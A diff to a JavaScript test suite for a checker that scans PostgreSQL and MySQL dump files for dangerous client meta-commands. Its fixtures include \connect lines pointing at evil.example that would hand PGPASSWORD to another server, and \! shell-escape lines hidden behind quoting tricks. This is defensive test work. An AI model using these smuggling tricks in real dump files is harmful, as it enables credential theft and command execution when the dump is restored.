@@ -110,6 +110,31 @@ describe('psql commands in a dump', () => {
     expect((await verdict('postgres', on)).error).toMatch(/command \\! at line 3,/)
   })
 
+  it('takes \\connect only as pg_dump writes it: no host, port or other option (they would get PGPASSWORD)', async () => {
+    const elsewhere = [
+      '\\connect -reuse-previous=on "dbname=x host=127.0.0.1 port=54329"\n',
+      '\\c x root evil.example\n',
+      '\\connect postgresql://evil.example/x\n',
+      '\\connect "host=evil.example dbname=x"\n',
+      '\\connect -reuse-previous=on "dbname=\'x\' host=evil.example"\n',
+    ]
+    for (const line of elsewhere)
+      expect((await verdict('postgres', `SELECT 1;\n${line}`)).error, line).toMatch(/command \\c(onnect)? to a server/)
+    const pgDump = [
+      '\\connect postgres\n',
+      '\\connect "My.db"\r\n',
+      '\\connect -reuse-previous=on "dbname=\'rv we""ir\\\\d\\\'x`id` host=y\'"\n',
+      '\\connect - root\n',
+    ]
+    for (const line of pgDump) expect((await verdict('postgres', `SELECT 1;\n${line}`)).error, line).toBeUndefined()
+  })
+
+  it("keeps an E'…' string an escape string past a doubled quote", async () => {
+    // psql reads one string `a'b' ; ` here, then runs the \! line
+    const doubled = "SELECT E'a''b\\' ; ' AS x;\n\\! touch /tmp/x #'\n;\n"
+    expect((await verdict('postgres', doubled)).error).toMatch(/command \\! at line 2,/)
+  })
+
   it('notes a dump ending inside COPY rows or a string', async () => {
     expect((await verdict('postgres', 'SELECT 1;\nCOPY t (a) FROM stdin;\n1\n2\n')).open).toBe(
       'a COPY block begun at line 3',
@@ -182,6 +207,14 @@ describe('mysql commands in a dump', () => {
     expect((await verdict('mysql', ansi)).error).toMatch(/command \\! at line 3,/)
     expect((await verdict('mysql', 'INSERT INTO t VALUES (\\N);\n')).error).toBeUndefined()
     expect((await verdict('mysql', '\\C gbk\n')).error).toMatch(/command \\C at line 1,/)
+  })
+
+  it('takes sql_mode from a SET statement only, not from a row that mentions it', async () => {
+    // mariadb-dump writes each row of an extended INSERT at a line's start
+    const rows = "INSERT INTO `t` VALUES\n(1,'sql_mode=NO_BACKSLASH_ESCAPES'),\n(2,'it\\'s\\nsystem\\n');\n"
+    expect((await verdict('mysql', rows)).error).toBeUndefined()
+    const routine = "/*!50003 SET sql_mode = 'NO_BACKSLASH_ESCAPES' */ ;\nSELECT 'a\\';\n\\! touch /tmp/x\n"
+    expect((await verdict('mysql', routine)).error).toMatch(/command \\! at line 3,/)
   })
 })
 
